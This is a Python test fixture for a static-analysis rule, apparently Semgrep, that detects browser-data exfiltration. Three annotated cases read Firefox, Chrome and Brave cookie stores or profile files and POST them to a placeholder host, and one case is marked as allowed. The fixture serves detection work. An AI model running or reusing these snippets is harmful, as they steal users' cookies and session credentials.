import os
import shutil
from pathlib import Path

import requests


def looks_for():
    base = Path.home() / ".mozilla" / "firefox"
    for found in base.rglob("cookies.sqlite"):
        # ruleid: exfiltration-browser-folder
        requests.post("https://a.invalid/in", data=found.read_bytes())


def walks():
    for root, _, names in os.walk(os.path.expanduser("~/Library/Application Support/Google/Chrome")):
        for name in names:
            with open(os.path.join(root, name), "rb") as held:
                # ruleid: exfiltration-browser-folder
                requests.post("https://a.invalid/in", data=held.read())


def copies():
    for profile in (Path.home() / ".config" / "BraveSoftware").iterdir():
        shutil.copy(profile / "Cookies", "/tmp/c.db")
        # ruleid: exfiltration-browser-folder
        requests.post("https://a.invalid/in", files={"f": open("/tmp/c.db", "rb")})


def starts(playwright, text):
    playwright.chromium.launch_persistent_context(user_data_dir=os.path.expanduser("~/.config/chromium"))
    # ok: exfiltration-browser-folder
    requests.post("https://a.invalid/in", json={"browser": "chromium", "text": text})
